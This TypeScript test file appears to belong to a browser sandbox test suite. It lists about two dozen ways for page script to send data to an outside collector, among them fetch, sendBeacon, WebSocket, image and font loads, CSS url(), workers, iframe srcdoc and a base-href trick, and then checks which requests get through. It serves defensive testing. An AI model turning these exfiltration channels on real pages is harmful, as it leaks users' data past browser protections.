import { testView } from "../fixtures/test-view.ts";
import { attacks } from "./attacks.ts";
import { pairs } from "./pair.ts";

/** Each way out by its attack: a statement that sends something to `to(id)`. */
const WAYS: Readonly<Record<string, string>> = {
  "exfil-fetch": 'fetch(to("exfil-fetch"), { mode: "no-cors" })',
  "exfil-xhr": 'const x = new XMLHttpRequest(); x.open("GET", to("exfil-xhr")); x.send()',
  "exfil-beacon": 'navigator.sendBeacon(to("exfil-beacon"), "secret")',
  "exfil-websocket": 'new WebSocket(to("exfil-websocket").replace("http", "ws"))',
  "exfil-eventsource": 'new EventSource(to("exfil-eventsource"))',
  "exfil-image": 'new Image().src = to("exfil-image")',
  "exfil-script": 'element("script", { src: to("exfil-script") })',
  "exfil-stylesheet": 'element("link", { rel: "stylesheet", href: to("exfil-stylesheet") })',
  "exfil-css-url": 'element("div", { style: "height:9px;background:url(" + to("exfil-css-url") + ")" })',
  "exfil-font": 'new FontFace("f", "url(" + to("exfil-font") + ")").load()',
  "exfil-media": 'new Audio(to("exfil-media")).load()',
  "exfil-track": 'element("video", { poster: to("exfil-track") })',
  "exfil-object": 'element("object", { data: to("exfil-object"), type: "text/html" })',
  "exfil-frame": 'element("iframe", { src: to("exfil-frame") })',
  "exfil-worker":
    'new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(to("exfil-worker")) + ", { mode: \'no-cors\' })"])))',
  "exfil-prefetch": 'element("link", { rel: "prefetch", href: to("exfil-prefetch") })',
  "exfil-preload": 'element("link", { rel: "preload", as: "image", href: to("exfil-preload") })',
  "exfil-modulepreload": 'element("link", { rel: "modulepreload", href: to("exfil-modulepreload") })',
  "exfil-import": 'import(to("exfil-import"))',
  "exfil-srcdoc":
    'element("iframe", { srcdoc: "<script>fetch(" + JSON.stringify(to("exfil-srcdoc")) + ", { mode: \'no-cors\' })<" + "/script>" })',
  "exfil-svg-use":
    'document.body.insertAdjacentHTML("beforeend", "<svg><image href=\\"" + to("exfil-svg-use") + "\\" width=9 height=9></svg>")',
  "exfil-input-image": 'element("input", { type: "image", src: to("exfil-input-image") })',
  "exfil-base": 'element("base", { href: to("") }); const i = element("img", {}); i.src = "exfil-base"',
};

const ids = attacks.filter(({ id }) => id in WAYS).map(({ id }) => id);

pairs(ids, async ({ run, collectors, tried, happens }) => {
  const script = `
    const to = (path) => "${collectors.site}/" + path;
    const element = (name, attributes) => {
      const made = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
      document.body.append(made);
      return made;
    };
    const ways = [${Object.values(WAYS)
      .map((way) => `async () => { ${way}; }`)
      .join(",\n")}];
    for (const way of ways) await way().catch(() => {});
    show("tried");`;
  await run([{ name: "show", html: testView(script) }]);
  await tried("show");
  await happens(() => ids.every((id) => collectors.got(id)));
  return ids.filter((id) => collectors.got(id));
});
